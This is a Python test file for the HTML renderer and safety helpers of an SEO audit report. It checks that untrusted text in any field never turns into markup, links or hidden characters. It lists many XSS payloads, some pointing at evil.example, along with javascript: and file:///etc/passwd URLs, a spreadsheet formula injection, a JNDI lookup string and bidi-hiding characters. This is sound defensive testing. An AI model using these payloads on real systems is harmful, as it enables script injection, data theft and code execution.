"""Strangers' words in every field of an Audit: none of them becomes markup, a link, a request or a hidden character."""

from __future__ import annotations

import json
from collections.abc import Mapping
from html import escape
from typing import Any

import pytest

from audit.models import Audit, HouseStyle
from reports import safety
from reports.render import html
from tests.golden.make import AUDIT
from tests.html_check import Document, violations

MARKUP = (
    "</script><script>alert(1)</script>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script href='data:text/javascript,alert(1)'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action='//evil.example/'><input name=password></form>",
    "<button formaction='javascript:alert(1)'>go</button>",
    "<video poster='//evil.example/x'><source onerror=alert(1)></video>",
    "<audio src='//evil.example/x.mp3' autoplay></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details ontoggle=alert(1) open>x</details>",
    "<body onload=alert(1)>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><img src='//evil.example/x'></noscript>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    'x" style="background:url(//evil.example/x)',
    "x' style='position:fixed;inset:0",
    "</td></tr></table><h1>Acme is closed</h1>",
    "</a><a href='https://evil.example/'>click</a>",
    "</section></main><main id='verdict'>",
    "<a href='https://evil.example/' target='_blank'>x</a>",
    "<b>bold",
    "<!doctype html><html><body>",
    "<p/onclick=alert(1)>",
    "<\u0000script>alert(1)</script>",
)
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\u0001javascript:alert(1)",
    "javascript\u200b:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "blob:https://acme.example/1",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:\\\\evil.example/x",
    "https://acme.example@evil.example/",
    "https://",
    "http://[::1",
    "http://a.example:99999999/",
    "ftp://evil.example/x",
    "mailto:x@evil.example",
    'https://evil.example/" onclick="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
)
HIDING = (
    "moc.\u202eelpmaxe.emca",
    "\u2066evil\u2069",
    "a\u200bb\ufeffc",
    "a\u0000b\u0007c\u001b[31md",
    "tag\U000e0041\U000e0042",
    "line\u2028break\u2029",
)
PLAIN = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "{{ 7*7 }}{% include 'base.html' %}{# x #}",
    "{brand} {n, plural, one {x} other {y}} {",
    "%s %(x)s ${jndi:ldap://evil.example/x}",
    "a" * 5000,
    "👨‍👩‍👧 emoji 日本語",
    "&lt;script&gt; &amp; &copy;",
    "\\u003cscript\\u003e",
)
EVERY = (*MARKUP, *LINKS, *HIDING, *PLAIN)

_CLOSED = (
    "status feature fetched_at taken_at made_at when page_type cause by scope light device owner verdicts id check "
    "severity serp key labels label_keys origin verdict since"
)
CLOSED = frozenset(_CLOSED.split())
"""Fields of a fixed set, and ids that hold a document together; ids have a test of their own."""
TOGETHER = frozenset({"engine", "keyword", "text", "product"})
"""Fields that must stay different from each other."""


def poisoned(audit: Audit, payload: str) -> Audit:
    """The audit with a stranger's text in every field that can hold one."""
    facts = _poison(audit.model_dump(mode="json"), payload)
    facts["findings"] += [_finding(payload)]
    facts["actions"] += [{"id": payload, "priority": 99, "facts": {payload: payload, "self": payload, "key": payload}}]
    return Audit.model_validate(facts)


def _finding(payload: str) -> dict[str, Any]:
    facts = {"title": payload, "self": 1, payload: payload}
    return {"check": payload, "subject": f"{payload}:{payload}", "value": 1.0, "evidence": [payload], "facts": facts}


def _poison(node: Any, payload: str, key: str = "") -> Any:
    if isinstance(node, str):
        if key == "subject":
            return f"{node.partition(':')[0]}:{payload}"
        return node + payload if key in TOGETHER else payload
    if isinstance(node, list):
        return [_poison(item, payload, key) for item in node]
    if isinstance(node, dict):
        return {_key(key, k, payload): _value(k, v, payload, node) for k, v in node.items()}
    return node


def _key(table: str, key: str, payload: str) -> str:
    return key + payload if table in ("histogram", "engine_shares", "fallbacks") else key


def _value(key: str, value: Any, payload: str, around: Mapping[str, Any]) -> Any:
    if key == "labels":
        return {k: _poison(v, payload) for k, v in value.items()}
    fixed = key in CLOSED or (key == "kind" and ("modifier" in around or "persistent" in around))
    return value if fixed else _poison(value, payload, key)


@pytest.fixture(scope="module")
def small() -> Audit:
    """The golden audit with a few pages: every section still has something to show."""
    audit = Audit.model_validate_json(AUDIT.read_text("utf-8"))
    serps = tuple(s for s in audit.snapshot.serps if s.id in ("s1", "s6", "s9"))
    return audit.model_copy(update={"snapshot": audit.snapshot.model_copy(update={"serps": serps})})


@pytest.mark.parametrize("payload", EVERY, ids=lambda p: ascii(p)[:40])
def test_nothing_a_stranger_writes_becomes_more_than_text(small: Audit, payload: str) -> None:
    style = HouseStyle(
        agency=payload, logo=payload, accent=payload, footer=payload, contact=payload, disclaimer=payload
    )
    report = html(poisoned(small, payload), style=style, expanded=True)
    assert violations(report) == []


@pytest.mark.parametrize("payload", [*MARKUP, *LINKS, *HIDING], ids=lambda p: ascii(p)[:40])
def test_the_same_payloads_break_a_naive_template(payload: str) -> None:
    """The positive control: what the test above looks for is really there to be found."""
    naive = f'<p title="{payload}">{payload}</p><a href={payload}>x</a><script>{json.dumps(payload)}</script>'
    assert len(violations(naive)) > len(violations('<p title="x">x</p><a href="#x">x</a><script>"x"</script>'))


def test_ids_of_a_document_are_no_way_in(small: Audit) -> None:
    """Serp ids become anchors; one that is none is made harmless."""
    bad = '"><script>alert(1)</script>'
    serps = tuple(s.model_copy(update={"id": s.id + bad}) for s in small.snapshot.serps)
    keys = {k.replace("/", f"{bad}/", 1): v for k, v in small.label_keys.items()}
    snapshot = small.snapshot.model_copy(update={"serps": serps})
    assert violations(html(small.model_copy(update={"snapshot": snapshot, "label_keys": keys}))) == []


def test_text_of_strangers_stays_readable(small: Audit) -> None:
    words = 'Fish & chips <b>bold</b> "quoted" it\'s'
    report = html(poisoned(small, words))
    assert words in Document.of(report).visible()
    assert escape("<b>bold</b>") in report


def test_a_lone_surrogate_breaks_nothing(small: Audit) -> None:
    report = html(poisoned(small, "half \ud83d of an emoji"))
    assert violations(report) == []
    assert report.encode("utf-8")


# ---------------------------------------------------------------- the layer below the templates


@pytest.mark.parametrize("url", LINKS[:-2], ids=lambda p: ascii(p)[:40])
def test_no_link(url: str) -> None:
    assert safety.link(url) == ""


@pytest.mark.parametrize(
    ("url", "link"),
    [
        ("https://acme.example/a?b=1#c", "https://acme.example/a?b=1#c"),
        ("HTTP://acme.example", "HTTP://acme.example"),
        (" https://acme.example/a b ", "https://acme.example/ab"),
        ("https://пример.example/путь", "https://пример.example/путь"),
        ("https://acme.example/\u202ecod", "https://acme.example/cod"),
    ],
)
def test_link(url: str, link: str) -> None:
    assert safety.link(url) == link


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://www.acme.example/", "acme.example"),
        ("https://аcme.example/", "xn--cme-5cd.example"),
        ("https://acme.example:8443/x", "acme.example"),
        ("javascript:alert(1)", ""),
        ("https://" + "a" * 70 + ".example/", "a" * 70 + ".example"),
    ],
)
def test_host_shows_look_alike_letters(url: str, host: str) -> None:
    assert safety.host(url) == host


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("  a \n b\t", "a b"),
        ("a\u202eb\u2066c\u200bd", "abcd"),
        ("a\u0000b", "a b"),
        ("👨\u200d👩", "👨\u200d👩"),
        ("\ud800x\ue000", "x"),
        ("naïve 中文 한국어", "naïve 中文 한국어"),
    ],
)
def test_clean(text: str, clean: str) -> None:
    assert safety.clean(text) == clean


def test_clip_keeps_whole_words_where_one_ends_near() -> None:
    assert safety.clip("short", 10) == "short"
    assert safety.clip("one twooo three", 12) == "one twooo…"
    assert safety.clip("one two three four", 12) == "one two thr…"
    assert safety.clip("x" * 50, 10) == "x" * 9 + "…"


@pytest.mark.parametrize(
    ("value", "kept"),
    [
        ("data:image/png;base64,iVBORw0KGgo=", True),
        ("data:image/svg+xml;base64,PHN2Zz4=", True),
        ("data:text/html;base64,PHN2Zz4=", False),
        ("https://acme.example/logo.png", False),
        ('data:image/png;base64,iVBO" onerror="x', False),
        ("data:image/png;base64," + "A" * safety.LOGO_LIMIT, False),
    ],
)
def test_logo_is_embedded_or_nothing(value: str, kept: bool) -> None:
    assert safety.logo(value) == (value if kept else "")


def test_only_a_colour_is_a_colour() -> None:
    assert safety.colour("#A1b2C3", "#000000") == "#A1b2C3"
    for bad in ("red", "#fff", "#00456F;}", "url(x)", "#00456F "):
        assert safety.colour(bad, "#000000") == "#000000"


def test_css_string_is_escapes_only() -> None:
    assert safety.css_string('a"}') == '"\\000061\\000022\\00007d"'


@pytest.mark.parametrize(("tag", "kept"), [("zh-Hans-CN", True), ("en", True), ("e", False), ('en" x', False)])
def test_language_tag(tag: str, kept: bool) -> None:
    assert safety.language_tag(tag) == (tag if kept else "")
